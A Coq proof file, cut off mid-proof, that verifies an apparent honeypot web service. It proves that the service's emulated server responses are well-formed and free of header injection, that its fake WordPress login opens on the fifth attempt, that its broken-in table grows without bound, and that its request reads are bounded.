(* ===== verification/HttpFacts.v ===== *)
(** * HttpFacts: what the web service promises

    Every answer is a well-formed response whose head carries no byte of the request;
    the WordPress door opens to a source on its fifth attempt; what is read of a
    request is bounded; a command packed the way the PHP exploits pack it is recovered. *)

From S2P Require Import Prelude GoStrings VfsNode VfsSession Util Event Session Base64 StableSort Persona ShellState Shell ShellThms HttpPages Http.

(** ** Well-formed responses *)

Definition clean (s : str) : Prop := zb 13 ∉ s /\ zb 10 ∉ s.
#[global] Instance clean_dec s : Decision (clean s) := _.
Definition clean_hdr (h : hdr) : Prop := clean h.1 /\ clean h.2.

Lemma clean_app a b : clean (a ++ b) <-> clean a /\ clean b.
Proof. unfold clean. rewrite !not_elem_of_app. tauto. Qed.
Lemma clean_lit s : bool_decide (clean s) = true -> clean s.
Proof. apply bool_decide_eq_true. Qed.

(** A digit is neither CR nor LF. *)
Lemma clean_itoa n : 0 <= n -> clean (itoa n).
Proof.
  intros Hn. destruct (itoa_nonneg n Hn) as (_ & Hd & _). rewrite Forall_forall in Hd.
  split; intros Hin; apply Hd in Hin; discriminate Hin.
Qed.

(** Non-empty lines without CR, each ended by CR LF, then an empty one. *)
Lemma index_end_of_head lines body :
  lines <> [] -> Forall (fun l => l <> [] /\ zb 13 ∉ l) lines ->
  index_str (flat_map (fun l => l ++ crlf) lines ++ crlf ++ body) (crlf ++ crlf) =
  Some (length (flat_map (fun l => l ++ crlf) lines) - 2)%nat.
Proof.
  assert (forall l rest k, zb 13 ∉ l -> index_str (crlf ++ rest) (crlf ++ crlf) = Some k ->
    index_str (l ++ crlf ++ rest) (crlf ++ crlf) = Some (length l + k)%nat) as Hskip.
  { induction l as [| c l IH]; intros rest k Hl Hk; [exact Hk |]. apply not_elem_of_cons in Hl as [Hc Hl].
    cbn [app index_str]. assert (has_prefix (c :: l ++ crlf ++ rest) (crlf ++ crlf) = false) as ->.
    { cbn [has_prefix crlf app]. by rewrite bool_decide_eq_false_2. }
    change (zb 13 :: zb 10 :: rest) with (crlf ++ rest). change (zb 13 :: zb 10 :: crlf) with (crlf ++ crlf).
    rewrite (IH rest k Hl Hk). done. }
  induction lines as [| l lines IH]; intros Hne Hall; [done |]. apply Forall_cons in Hall as [[Hl0 Hl] Hall].
  cbn [flat_map]. rewrite <- !app_assoc. destruct lines as [| l2 lines].
  - cbn [flat_map app]. rewrite (Hskip l (crlf ++ body) 0%nat Hl); [| reflexivity].
    f_equal. rewrite app_nil_r, length_app. simpl. lia.
  - specialize (IH ltac:(done) Hall). apply Forall_cons in Hall as [[Hl20 Hl2] _].
    set (tail := flat_map (fun l => l ++ crlf) (l2 :: lines)) in *.
    assert (2 <= length tail)%nat as Ht by (unfold tail; cbn [flat_map]; rewrite !length_app; simpl; lia).
    rewrite (Hskip l (tail ++ crlf ++ body) (2 + (length tail - 2))%nat Hl).
    + f_equal. rewrite !length_app. simpl. lia.
    + cbn [crlf app index_str]. fold crlf.
      assert (exists c t, tail ++ crlf ++ body = c :: t /\ c <> zb 13) as (c & t & E & Hc).
      { unfold tail. cbn [flat_map]. destruct l2 as [| c l2]; [done |]. eexists c, _. split; [reflexivity |].
        intros ->. apply Hl2. by left. }
      change (tail ++ zb 13 :: zb 10 :: body) with (tail ++ crlf ++ body).
      change (zb 13 :: zb 10 :: crlf) with (crlf ++ crlf). rewrite IH. rewrite E. cbn [has_prefix crlf app].
      rewrite (bool_decide_eq_false_2 (zb 13 = c)) by congruence. done.
Qed.

(** The head of a response as lines. *)
Definition status_line (status : Z) (reason : str) : str := $$"HTTP/1.1 " ++ itoa status ++ $$" " ++ reason.
Definition head_lines (status : Z) (reason : str) (hs : list hdr) : list str :=
  status_line status reason :: map (fun h => h.1 ++ $$": " ++ h.2) hs.
Definition head_text (status : Z) (reason : str) (hs : list hdr) : str :=
  flat_map (fun l => l ++ crlf) (head_lines status reason hs) ++ crlf.

Lemma httpHead_text status reason hs body : httpHead status reason hs body = head_text status reason hs ++ body.
Proof.
  unfold httpHead, head_text, head_lines, status_line. cbn [flat_map]. rewrite <- !app_assoc. repeat f_equal.
  induction hs as [| h hs IH]; [done |]. cbn [flat_map map]. unfold header_line at 1. rewrite <- !app_assoc. by rewrite IH.
Qed.

Lemma headersOnly_head status reason hs body :
  0 <= status -> clean reason -> Forall clean_hdr hs ->
  headersOnly (httpHead status reason hs body) = head_text status reason hs.
Proof.
  intros Hs Hr Hh. rewrite httpHead_text. unfold headersOnly, head_text at 1. rewrite <- app_assoc, index_end_of_head; [| done |].
  - unfold head_text. set (t := flat_map (fun l : list ascii => l ++ crlf) (head_lines status reason hs)).
    assert (2 <= length t)%nat as Ht by (unfold t; cbn [head_lines flat_map]; rewrite !length_app; simpl; lia).
    replace (length t - 2 + 4)%nat with (length (t ++ crlf)) by (rewrite length_app; simpl; lia).
    by rewrite take_app_length.
  - constructor.
    + split; [done |]. unfold status_line. rewrite !not_elem_of_app. destruct (clean_itoa status Hs).
      split_and!; [by apply (bool_decide_unpack _) | done | by apply (bool_decide_unpack _) | apply Hr].
    + clear Hr. induction Hh as [| h hs [[H1 _] [H2 _]] _ IH]; [constructor |]. constructor; [| exact IH]. split.
      * by destruct (h.1).
      * rewrite !not_elem_of_app. split_and!; [done | by apply (bool_decide_unpack _) | done].
Qed.

(** What an answer has to be. *)
Definition well_formed (r body : str) : Prop :=
  exists status reason hs, r = httpHead status reason hs body /\ 0 <= status /\ clean reason /\ Forall clean_hdr hs /\
    contentLength body ∈ hs /\ ($$"Connection", $$"close") ∈ hs.

Definition clean_map (m : gmap str str) : Prop := forall k v, m !! k = Some v -> clean k /\ clean v.
Lemma clean_map_empty : clean_map ∅. Proof. intros k v H. by rewrite lookup_empty in H. Qed.
Lemma clean_map_insert m k v : clean k -> clean v -> clean_map m -> clean_map (<[k := v]> m).
Proof. intros Hk Hv Hm k' v' [[<- <-] | [_ H]]%lookup_insert_Some; [done | by apply Hm]. Qed.

Lemma orderedExtras_clean m : clean_map m -> Forall clean_hdr (orderedExtras m).
Proof.
  intros Hm. unfold orderedExtras. apply Forall_app. split.
  - apply Forall_forall. intros h Hh. apply list_elem_of_omap in Hh as (k & _ & E).
    destruct (m !! k) as [v |] eqn:Ek; simplify_eq/=. by apply Hm.
  - apply Forall_forall. intros h Hh. apply list_elem_of_fmap in Hh as (k & -> & Hk). apply stable_sort_elem in Hk.
    apply elem_of_filter_b in Hk as [Hk _]. apply list_elem_of_fmap in Hk as ([k' v] & -> & Hkv). apply elem_of_map_to_list in Hkv.
    cbn [fst]. rewrite Hkv. by apply Hm in Hkv.
Qed.

Section answers.
Context (date : str) (Hdate : clean date).

Ltac hdrs := repeat match goal with
  | |- Forall clean_hdr (_ ++ _) => apply Forall_app; split
  | |- Forall clean_hdr (_ :: _) => apply Forall_cons; split
  | |- Forall clean_hdr [] => apply Forall_nil_2
  | |- Forall clean_hdr (if ?b then _ else _) => destruct b
  | |- Forall clean_hdr (orderedExtras _) => by apply orderedExtras_clean
  end.

Lemma contentLength_clean body : clean_hdr (contentLength body).
Proof using. split; [by apply clean_lit | cbn [snd contentLength]; apply clean_itoa, zlen_nonneg]. Qed.
Lemma lookup_clean m k : clean_map m -> clean (default [] (m !! k)).
Proof using. intros Hm. destruct (m !! k) as [v |] eqn:E; [exact (proj2 (Hm _ _ E)) | by apply clean_lit]. Qed.

Lemma apache_ok status reason ct body extra :
  0 <= status -> clean reason -> clean ct -> clean_map extra -> well_formed (apacheResponse date status reason ct body extra) body.
Proof using Hdate.
  intros Hs Hr Hc Hm. eexists status, reason, _. split; [reflexivity |]. unfold contentType. split_and!; [done | done | | |].
  - hdrs; first [by apply contentLength_clean | (split; cbn [fst snd]; first [done | by apply clean_lit | by apply lookup_clean])].
  - rewrite !elem_of_app. right. right. right. left. by left.
  - repeat (apply elem_of_app; right). by left.
Qed.
Lemma nginx_ok status reason ct body extra :
  0 <= status -> clean reason -> clean ct -> clean_map extra -> well_formed (nginxResponse date status reason ct body extra) body.
Proof using Hdate.
  intros Hs Hr Hc Hm. eexists status, reason, _. split; [reflexivity |]. unfold contentType. split_and!; [done | done | | |].
  - hdrs; first [by apply contentLength_clean | (split; cbn [fst snd]; first [done | by apply clean_lit | by apply lookup_clean])].
  - rewrite !elem_of_app. right. right. left. by left.
  - repeat (apply elem_of_app; right). by left.
Qed.
Lemma tomcat_ok status reason ct body extra :
  0 <= status -> clean reason -> clean ct -> clean_map extra -> well_formed (tomcatResponse date status reason ct body extra) body.
Proof using Hdate.
  intros Hs Hr Hc Hm. eexists status, reason, _. split; [reflexivity |]. unfold contentType. split_and!; [done | done | | |].
  - hdrs; first [by apply contentLength_clean | (split; cbn [fst snd]; first [done | by apply clean_lit | by apply lookup_clean])].
  - rewrite !elem_of_app. right. left. right. by left.
  - repeat (apply elem_of_app; right). by left.
Qed.
End answers.

(** ** Every route *)

Record clean_persona (W : World) (p : Persona) : Prop := CleanPersona {
  cp_host : clean (Hostname p); cp_apache : clean (ApacheVer p); cp_php : clean (PHPVer p); cp_nginx : clean (NginxVer p);
  cp_sha : forall s, clean (w_sha256 W s)
}.

Section routes.
Context (W : World) (md5 : str -> str) (date : str) (base : option node) (p : Persona) (style art backup : str).
Context (Hdate : clean date) (Hp : clean_persona W p).

Ltac lit := first [done | apply clean_lit; reflexivity].
Ltac extra := repeat first [apply clean_map_insert; [lit | |] | done | apply clean_map_empty].

Lemma wpHeaders_clean : clean_map (wpHeaders p).
Proof using Hp.
  unfold wpHeaders. cbn [list_to_map fst snd foldr]. apply clean_map_insert; [lit | |]; [| apply clean_map_insert; [lit | | apply clean_map_empty]].
  - rewrite !clean_app. split_and!; [lit | apply Hp | lit].
  - rewrite clean_app. split; [lit | apply Hp].
Qed.
Lemma with_clean m k v : clean_map m -> clean k -> clean v -> clean_map (withHeader m k v).
Proof using. intros. by apply clean_map_insert. Qed.
Lemma cookie_clean : clean (wpLoggedInCookie W p).
Proof using Hp.
  unfold wpLoggedInCookie. rewrite !clean_app. split_and!; [lit | | lit].
  destruct (cp_sha W p Hp ($$"wp-logged-in:" ++ Hostname p)) as [H1 H2].
  split; intros H; [apply H1 | apply H2]; rewrite <- (take_drop 32); apply elem_of_app; by left.
Qed.

Ltac ok lemma := eexists; cbv zeta; cbn [fst]; apply lemma; [done | lia | lit | lit |].

Lemma wordpress_ok meth path body s t : exists b, well_formed (respondWordPress W date p art backup meth path body s t).1.1.1 b.
Proof using Hp Hdate.
  pose proof wpHeaders_clean as Hw. unfold respondWordPress. cbv zeta.
  destruct (negb (meth =s _) && _ && _); [ok apache_ok; apply with_clean; [done | lit | lit] |].
  destruct (pathOnly path =s $$"/").
  { ok apache_ok. apply with_clean; [apply with_clean; [done | lit |] | lit | lit].
    rewrite !clean_app. split_and!; [lit | apply Hp | lit | lit | lit | lit]. }
  destruct (pathOnly path =s $$"/wp-login.php").
  { destruct (meth =s $$"POST").
    - unfold wp_login_post. destruct (parseWPLogin body) as [u pw]. destruct (wpLetIn (SrcIP s) t) as [[] t'].
      + ok apache_ok. apply with_clean; [apply with_clean; [done | lit | lit] | lit | apply cookie_clean].
      + ok apache_ok. apply with_clean; [done | lit | lit].
    - unfold wp_login_page. ok apache_ok. repeat (apply clean_map_insert; [lit | lit |]). done. }
  destruct (pathOnly path =s $$"/xmlrpc.php").
  { destruct (meth =s $$"POST"); [ok apache_ok; done | ok apache_ok; apply with_clean; [done | lit | lit]]. }
  destruct (has_prefix (pathOnly path) $$"/wp-admin").
  { unfold wp_admin. destruct (wpAdminReveal (SrcIP s) t) as [[] t1].
    - unfold redirect. ok apache_ok. apply with_clean; [done | lit | lit].
    - destruct (wpLogReveal (SrcIP s) t1) as [l t2]. ok apache_ok. done.
    - destruct (wpLogReveal (SrcIP s) t1) as [l t2]. ok apache_ok. done. }
  destruct (pathOnly path =s $$"/readme.html"); [ok apache_ok; done |].
  destruct (pathOnly path =s $$"/robots.txt"); ok apache_ok; done.
Qed.

Lemma tomcat_route_ok path : exists b, well_formed (respondTomcat date p path).1 b.
Proof using Hdate.
  unfold respondTomcat. cbv zeta. destruct (pathOnly path =s _); [ok tomcat_ok; apply clean_map_empty |].
  destruct (_ || _); ok tomcat_ok; [apply with_clean; [apply clean_map_empty | lit | lit] | apply clean_map_empty].
Qed.
Lemma nginx_route_ok meth path : exists b, well_formed (respondNginx date p meth path).1 b.
Proof using Hp Hdate.
  assert (clean_map {[$$"Server" := $$"nginx/" ++ NginxVer p]}) as Hm.
  { apply clean_map_insert; [lit | rewrite clean_app; split; [lit | apply Hp] | apply clean_map_empty]. }
  unfold respondNginx. cbv zeta. destruct (_ && _); [ok nginx_ok; done |].
  destruct (pathOnly path =s _); ok nginx_ok; [| done]. repeat (apply clean_map_insert; [lit | lit |]). done.
Qed.

(** C21: whatever the request, the answer is one well-formed response: a status line and
    headers without a stray line break (no byte of the request can add a header or split
    the response), the exact Content-Length of the body, Connection: close; and the
    answer to a HEAD is that response cut after its head. *)
Theorem answers_well_formed meth path body sg t :
  let '((r, _), _, _) := respond W md5 date base p style art backup meth path body sg t in
  exists b, well_formed r b /\
    exists h, headersOnly r = h /\ r = h ++ b /\ exists h', h = h' ++ crlf ++ crlf.
Proof using Hp Hdate.
  destruct (respond _ _ _ _ _ _ _ _ _ _ _ _ _) as [[[r d] sg'] t'] eqn:E.
  assert (exists b, well_formed r b) as [b Hb].
  { unfold respond in E. destruct (tryExploit W md5 date base p path body sg) as [[[r1 d1] sg1] |] eqn:Ex.
    - injection E as <- <- <- <-. unfold tryExploit in Ex. destruct base as [root |]; [| done].
      destruct (extractRCE md5 path body) as [[cmd marker] |]; [| done]. destruct (cmd =s []); [done |].
      destruct (runRCE _ _ _ _ _) as [out sg2]. injection Ex as <- <- <-.
      ok apache_ok. apply wpHeaders_clean.
    - destruct (style =s $$"tomcat"); [pose proof (tomcat_route_ok path) as [b Hb]; exists b; by rewrite (surjective_pairing (respondTomcat date p path)) in E; simplify_eq |].
      destruct (style =s $$"wordpress").
      + destruct sg as [[s g] tk]. pose proof (wordpress_ok meth path body s t) as [b Hb]. exists b.
        destruct (respondWordPress _ _ _ _ _ _ _ _ _ _) as [[r2 s2] t2]. cbn [fst] in Hb. by simplify_eq.
      + pose proof (nginx_route_ok meth path) as [b Hb]. exists b. destruct (respondNginx date p meth path) as [r2 d2]. by simplify_eq. }
  exists b. split; [done |]. destruct Hb as (st & reason & hs & -> & Hst & Hr & Hh & _).
  rewrite headersOnly_head by done. eexists. split; [reflexivity |]. split; [apply httpHead_text |].
  unfold head_text. cbn [head_lines flat_map].
  assert (forall ls l, exists h', ((l ++ crlf) ++ flat_map (fun x : list ascii => x ++ crlf) ls) ++ crlf = h' ++ crlf ++ crlf) as Hend.
  { induction ls as [| l2 ls IH] using rev_ind; intros l.
    - exists l. cbn [flat_map]. by rewrite app_nil_r, <- app_assoc.
    - exists ((l ++ crlf) ++ flat_map (fun x : list ascii => x ++ crlf) ls ++ l2). rewrite flat_map_app. cbn [flat_map].
      rewrite app_nil_r, <- !app_assoc. done. }
  apply Hend.
Qed.
End routes.

Definition demo_web : Persona := fst (GenerateProfile 1700000000 $$"full" (repeat 3 2000)).
Definition quiet_world : World :=
  MkWorld (fun _ => 0) (fun _ => 0) (fun _ m => map_to_list m) (fun l _ => l) (fun _ => $$"5f3a") [] (fun _ => None).
Lemma demo_web_clean : clean_persona quiet_world demo_web.
Proof. split; [by apply (bool_decide_unpack _); vm_compute .. |]. intros s. by apply clean_lit. Qed.

Lemma answers_well_formed_witness :
  let '((r, _), _, _) := respond quiet_world (fun _ => []) $$"Mon" None demo_web $$"wordpress" [] [] $$"PUT" $$"/x" [] (demo_client [], 0, 0%nat) no_trap in
  exists b, well_formed r b /\ exists h, headersOnly r = h /\ r = h ++ b /\ exists h', h = h' ++ crlf ++ crlf.
Proof. apply (answers_well_formed quiet_world (fun _ => []) $$"Mon" None demo_web); [by apply clean_lit | apply demo_web_clean]. Defined.

(** ** The door *)

(** Login attempts by source, in order. *)
Fixpoint knock (ips : list str) (t : trap) : list bool * trap :=
  match ips with
  | [] => ([], t)
  | ip :: ips => let '(b, t) := wpLetIn ip t in let '(bs, t) := knock ips t in (b :: bs, t)
  end.
Definition times (ip : str) (ips : list str) : Z := zlen (List.filter (fun x => x =s ip) ips).

(** The tables after the attempts [past], while the table never filled up. *)
Definition counts (past : list str) (t : trap) : Prop :=
  forall ip, (ip ∈ wpBroken t <-> wpBreakInAfter <= times ip past) /\
    wpTries t !! ip = (if decide (0 < times ip past < wpBreakInAfter) then Some (times ip past) else None).

Lemma times_snoc ip past x : times ip (past ++ [x]) = times ip past + (if x =s ip then 1 else 0).
Proof. unfold times. rewrite List.filter_app, zlen_app. simpl. by destruct (x =s ip). Qed.
Lemma times_nonneg ip past : 0 <= times ip past. Proof. apply zlen_nonneg. Qed.

Lemma wpLetIn_counts ip past t :
  counts past t -> Z.of_nat (size (wpTries t)) < wpTrackCap ->
  (wpLetIn ip t).1 = bool_decide (wpBreakInAfter <= times ip past + 1) /\ counts (past ++ [ip]) (wpLetIn ip t).2.
Proof.
  intros Hc Hs. destruct (Hc ip) as [Hb Ht]. pose proof (times_nonneg ip past) as H0. unfold wpLetIn.
  assert (forall x, x <> ip -> times x (past ++ [ip]) = times x past) as Hoth.
  { intros x Hx. rewrite times_snoc, (proj2 (seqb_neq ip x)) by congruence. lia. }
  assert (times ip (past ++ [ip]) = times ip past + 1) as Hme by (by rewrite times_snoc, seqb_refl).
  case_bool_decide as Hbr.
  { apply Hb in Hbr. cbn [fst snd]. split; [symmetry; apply bool_decide_eq_true_2; lia |].
    intros x. destruct (decide (x = ip)) as [-> | Hx]; [| rewrite Hoth by done; apply Hc]. rewrite Hme. split; [split; [lia | intros; by apply Hb] |].
    rewrite Ht. rewrite !decide_False by (unfold wpBreakInAfter in *; lia). done. }
  assert (~ wpBreakInAfter <= times ip past) as Hlt by (intros H; by apply Hbr, Hb).
  replace (wpTrackCap <=? Z.of_nat (size (wpTries t))) with false by (symmetry; apply Z.leb_gt; lia). rewrite andb_false_r.
  assert (default 0 (wpTries t !! ip) = times ip past) as Hd.
  { rewrite Ht. destruct (decide _) as [Hp | Hp]; cbn; unfold wpBreakInAfter in *; lia. }
  rewrite Hd. destruct (wpBreakInAfter <=? times ip past + 1) eqn:E; bool_hyps; cbn [fst snd].
  - split; [symmetry; by apply bool_decide_eq_true_2 |]. intros x. cbn [wpBroken wpTries].
    rewrite elem_of_union, elem_of_singleton. destruct (decide (x = ip)) as [-> | Hx].
    + rewrite Hme, lookup_delete_eq, decide_False by lia. split; [| done]. split; [lia | by left].
    + rewrite Hoth, lookup_delete_ne by done. destruct (Hc x) as [H1 H2]. split; [rewrite H1; tauto | done].
  - split; [symmetry; apply bool_decide_eq_false_2; lia |]. intros x. cbn [wpBroken wpTries]. destruct (decide (x = ip)) as [-> | Hx].
    + rewrite Hme, lookup_insert_eq, decide_True by lia. split; [rewrite Hb; lia | done].
    + rewrite Hoth, lookup_insert_ne by done. apply Hc.
Qed.

Lemma counts_tries_size past t : counts past t -> Z.of_nat (size (wpTries t)) <= zlen past.
Proof.
  intros Hc. assert (dom (wpTries t) ⊆ list_to_set past) as Hsub.
  { intros ip Hip. apply elem_of_dom in Hip as [n Hn]. destruct (Hc ip) as [_ Ht]. rewrite Hn in Ht.
    destruct (decide _) as [Hd |] in Ht; [| done]. apply elem_of_list_to_set.
    destruct (decide (ip ∈ past)) as [? | Hni]; [done |]. exfalso. unfold times in Hd.
    assert (List.filter (fun x => x =s ip) past = []) as E; [| rewrite E in Hd; change (zlen []) with 0 in Hd; lia].
    clear - Hni. induction past as [| y past IH]; [done |]. apply not_elem_of_cons in Hni as [Hy Hni]. simpl.
    rewrite (proj2 (seqb_neq y ip)) by congruence. by apply IH. }
  apply subseteq_size in Hsub. rewrite size_dom in Hsub. unfold zlen.
  assert (size (list_to_set past : gset str) <= length past)%nat; [| lia].
  clear. induction past as [| x past IH]; [done |]. cbn [list_to_set length].
  rewrite size_union_alt, size_singleton. assert (size ((list_to_set past : gset str) ∖ {[x]}) <= size (list_to_set past : gset str))%nat by (apply subseteq_size; set_solver). lia.
Qed.

(** the WordPress door opens to work and only to work: while fewer than the cap's fifty
    thousand attempts were made in all, the answer to each attempt, of any interleaving
    of sources, is whether that source has made at least five, this one included; the
    dashboard is open exactly to those sources. *)
Theorem door_opens_on_the_fifth_attempt ips :
  zlen ips <= wpTrackCap ->
  let '(bs, t) := knock ips no_trap in
  zlen bs = zlen ips /\
  (forall i ip, ips !! i = Some ip -> bs !! i = Some (bool_decide (wpBreakInAfter <= times ip (take (S i) ips)))) /\
  (forall ip, wpBrokenIn ip t = bool_decide (wpBreakInAfter <= times ip ips)).
Proof.
  intros Hn.
  assert (forall todo past t, counts past t -> zlen past + zlen todo <= wpTrackCap ->
    let '(bs, t') := knock todo t in
    zlen bs = zlen todo /\ counts (past ++ todo) t' /\
    forall i ip, todo !! i = Some ip -> bs !! i = Some (bool_decide (wpBreakInAfter <= times ip (past ++ take (S i) todo)))) as H.
  { induction todo as [| ip todo IH]; intros past t Hc Hz; cbn [knock].
    { split_and!; [done | by rewrite app_nil_r | done]. }
    rewrite zlen_cons in Hz. pose proof (zlen_nonneg todo). pose proof (counts_tries_size past t Hc).
    destruct (wpLetIn_counts ip past t Hc ltac:(lia)) as [Hb Hc']. destruct (wpLetIn ip t) as [b t1]. cbn [fst snd] in *.
    specialize (IH (past ++ [ip]) t1 Hc'). rewrite zlen_app in IH. change (zlen [ip]) with 1 in IH. specialize (IH ltac:(lia)).
    destruct (knock todo t1) as [bs t']. destruct IH as (H1 & H2 & H3). rewrite <- app_assoc in H2.
    split_and!; [rewrite !zlen_cons; lia | exact H2 |]. intros [| i] ip'; cbn [lookup list_lookup].
    - intros [= <-]. f_equal. rewrite Hb. change (take 1 (ip :: todo)) with (ip :: take 0 todo). rewrite take_0, times_snoc, seqb_refl. done.
    - intros Hi. specialize (H3 i ip' Hi). rewrite <- app_assoc in H3. exact H3. }
  specialize (H ips [] no_trap). destruct (knock ips no_trap) as [bs t].
  destruct H as (H1 & H2 & H3).
  { intros ip. unfold times. cbn [List.filter]. change (zlen []) with 0. split; [| by rewrite decide_False by lia].
    cbn [wpBroken no_trap]. unfold wpBreakInAfter. split; [set_solver | lia]. }
  { change (zlen []) with 0. lia. }
  split_and!; [done | exact H3 |]. intros ip. unfold wpBrokenIn. apply bool_decide_ext. apply (H2 ip).
Qed.

Lemma door_opens_on_the_fifth_attempt_witness :
  let a := $$"1.1.1.1" in let b := $$"2.2.2.2" in
  let ips := [a; b; a; a; a; b; a; a] in
  knock ips no_trap = ([false; false; false; false; false; false; true; true], (knock ips no_trap).2) /\
  wpBrokenIn b (knock ips no_trap).2 = bool_decide (wpBreakInAfter <= times b ips) /\ wpBrokenIn b (knock ips no_trap).2 = false.
Proof.
  intros a b ips. split; [vm_compute; reflexivity |]. split; [| vm_compute; reflexivity].
  pose proof (door_opens_on_the_fifth_attempt ips ltac:(by apply Z.leb_le)) as H.
  destruct (knock ips no_trap) as [bs t]. apply H.
Defined.

(** The cap holds for the sources still trying, whatever happens. *)
Lemma wpLetIn_cap ip t :
  Z.of_nat (size (wpTries t)) <= wpTrackCap -> Z.of_nat (size (wpTries (wpLetIn ip t).2)) <= wpTrackCap.
Proof.
  intros H. unfold wpLetIn. case_bool_decide; [done |].
  destruct (negb _ && _) eqn:E; [done |]. assert (size (delete ip (wpTries t)) <= size (wpTries t))%nat.
  { rewrite <- !size_dom. apply subseteq_size. rewrite dom_delete. set_solver. }
  destruct (wpBreakInAfter <=? _); cbn [snd wpTries]; [lia |].
  destruct (wpTries t !! ip) as [n |] eqn:En.
  - by rewrite map_size_insert_Some by eauto.
  - rewrite map_size_insert_None by done. rewrite bool_decide_eq_false_2 in E by (intros [? ?]; congruence).
    cbn [negb andb] in E. bool_hyps. lia.
Qed.

(** the tables are not bounded: five attempts from each of any number of distinct sources
    leave every one of them in the table of broken-in sources, far beyond the cap. *)
Theorem broken_in_table_unbounded ips :
  NoDup ips ->
  let t := (knock (flat_map (fun ip => repeat ip 5) ips) no_trap).2 in
  wpBroken t = list_to_set ips /\ Z.of_nat (size (wpBroken t)) = zlen ips /\ wpTries t = ∅.
Proof.
  intros Hn. cbn zeta.
  assert (forall todo t, NoDup todo -> (forall ip, ip ∈ todo -> ip ∉ wpBroken t) -> wpTries t = ∅ ->
    let t' := (knock (flat_map (fun ip => repeat ip 5) todo) t).2 in
    wpBroken t' = list_to_set todo ∪ wpBroken t /\ wpTries t' = ∅) as H.
  { induction todo as [| ip todo IH]; intros t Hnd Hb Ht; [cbn; split; [set_solver | done] |].
    apply NoDup_cons in Hnd as [Hip Hnd]. 
    set (rest := flat_map (fun ip => repeat ip 5) todo).
    change (flat_map (fun ip => repeat ip 5) (ip :: todo)) with (ip :: ip :: ip :: ip :: ip :: rest).
    assert (wpBroken t = wpBroken t /\ ip ∉ wpBroken t) as [_ Hib] by (split; [done | apply Hb; by left]).
    assert (forall m B, wpTries (Trap m B (wpAdminHits t) (wpRevealLogged t)) = m) as _ by done.
    assert (forall (k : Z) m, ip ∉ wpBroken t -> k = default 0 (m !! ip) + 1 -> (m = ∅ \/ exists n, m = {[ip := n]}) ->
      wpLetIn ip (Trap m (wpBroken t) (wpAdminHits t) (wpRevealLogged t)) =
      if wpBreakInAfter <=? k then (true, Trap (delete ip m) ({[ip]} ∪ wpBroken t) (wpAdminHits t) (wpRevealLogged t))
      else (false, Trap (<[ip := k]> m) (wpBroken t) (wpAdminHits t) (wpRevealLogged t))) as Hstep.
    { intros k m _ -> Hm. unfold wpLetIn. cbn [wpBroken wpTries wpAdminHits wpRevealLogged]. rewrite bool_decide_eq_false_2 by done.
      assert ((wpTrackCap <=? Z.of_nat (size m)) = false) as ->.
      { apply Z.leb_gt. destruct Hm as [-> | [n ->]]; [by rewrite map_size_empty | by rewrite map_size_singleton]. }
      rewrite andb_false_r. done. }
    destruct t as [m B hits logged]. cbn [wpTries wpBroken wpAdminHits wpRevealLogged] in *. subst m.
    cbn [knock].
    rewrite (Hstep 1 ∅) by (done || by left || by rewrite lookup_empty). change (wpBreakInAfter <=? 1) with false. cbn iota.
    rewrite (Hstep 2 (<[ip := 1]> ∅)) by (done || (rewrite lookup_insert_eq; done) || (right; by exists 1)).
    change (wpBreakInAfter <=? 2) with false. cbn iota. rewrite insert_insert_eq.
    rewrite (Hstep 3 (<[ip := 2]> ∅)) by (done || (rewrite lookup_insert_eq; done) || (right; by exists 2)).
    change (wpBreakInAfter <=? 3) with false. cbn iota. rewrite insert_insert_eq.
    rewrite (Hstep 4 (<[ip := 3]> ∅)) by (done || (rewrite lookup_insert_eq; done) || (right; by exists 3)).
    change (wpBreakInAfter <=? 4) with false. cbn iota. rewrite insert_insert_eq.
    rewrite (Hstep 5 (<[ip := 4]> ∅)) by (done || (rewrite lookup_insert_eq; done) || (right; by exists 4)).
    change (wpBreakInAfter <=? 5) with true. cbn iota.
    specialize (IH (Trap (delete ip (<[ip := 4]> ∅)) ({[ip]} ∪ B) hits logged) Hnd). cbn zeta in IH. cbn [wpBroken wpTries] in IH.
    fold rest in IH. destruct (knock rest _) as [bs t2]. cbn [snd] in *. destruct IH as [H1 H2].
    - intros x Hx. apply not_elem_of_union. split; [rewrite elem_of_singleton; congruence | apply Hb; by right].
    - rewrite delete_insert_id; [done | by rewrite lookup_empty].
    - split; [rewrite H1; set_solver | done]. }
  destruct (H ips no_trap Hn ltac:(set_solver) eq_refl) as [H1 H2].
  assert (wpBroken (knock (flat_map (fun ip => repeat ip 5) ips) no_trap).2 = list_to_set ips) as Hb by (rewrite H1; cbn; set_solver).
  split_and!; [exact Hb | | exact H2]. rewrite Hb, size_list_to_set by done. done.
Qed.
Lemma broken_in_table_unbounded_witness :
  NoDup [$$"1.1.1.1"; $$"2.2.2.2"] /\
  Z.of_nat (size (wpBroken (knock (flat_map (fun ip => repeat ip 5) [$$"1.1.1.1"; $$"2.2.2.2"]) no_trap).2)) = 2.
Proof.
  assert (NoDup [$$"1.1.1.1"; $$"2.2.2.2"]) as H by (apply (bool_decide_unpack _); vm_compute; exact I).
  split; [exact H |]. apply (broken_in_table_unbounded _ H).
Defined.

(** ** Reading a request *)

Lemma ReadN_spec n s : exists b, ReadN n s = (b, set_inp s (drop (length b) (inp s))) /\ b = take (length b) (inp s) /\ zlen b <= Z.max 0 n.
Proof.
  unfold ReadN. destruct (n <=? 0) eqn:E; bool_hyps.
  { exists []. split_and!; [by destruct s | done | change (zlen []) with 0; lia]. }
  set (k := Z.to_nat (Z.min n maxReadN)). exists (take k (inp s)). rewrite length_take. split_and!.
  - f_equal. f_equal. destruct (decide (k <= length (inp s))%nat); [by rewrite Nat.min_l by lia |].
    rewrite Nat.min_r by lia. rewrite !drop_ge by lia. done.
  - destruct (decide (k <= length (inp s))%nat); [by rewrite Nat.min_l by lia |].
    rewrite Nat.min_r by lia. rewrite !take_ge by lia. done.
  - rewrite zlen_take. unfold k. rewrite Z2Nat.id by (unfold maxReadN in *; change (Z.shiftl 1 20) with 1048576; lia). lia.
Qed.

Lemma readHeaders_spec n : forall m s, let '(m', s') := readHeaders n m s in
  Z.of_nat (size m') <= Z.of_nat (size m) + Z.of_nat n /\ events s' = events s /\ capture s' = capture s /\
  exists used, inp s = used ++ inp s'.
Proof.
  induction n as [| n IH]; intros m s; cbn [readHeaders].
  { split_and!; [lia | done | done | by exists []]. }
  assert (forall l ok s1, ReadLine s = (l, ok, s1) -> events s1 = events s /\ capture s1 = capture s /\ exists used, inp s = used ++ inp s1) as HR.
  { intros l ok s1. unfold ReadLine. destruct (capture s) eqn:Ec; [intros [= <- <- <-]; split_and!; [done | done | by exists []] |].
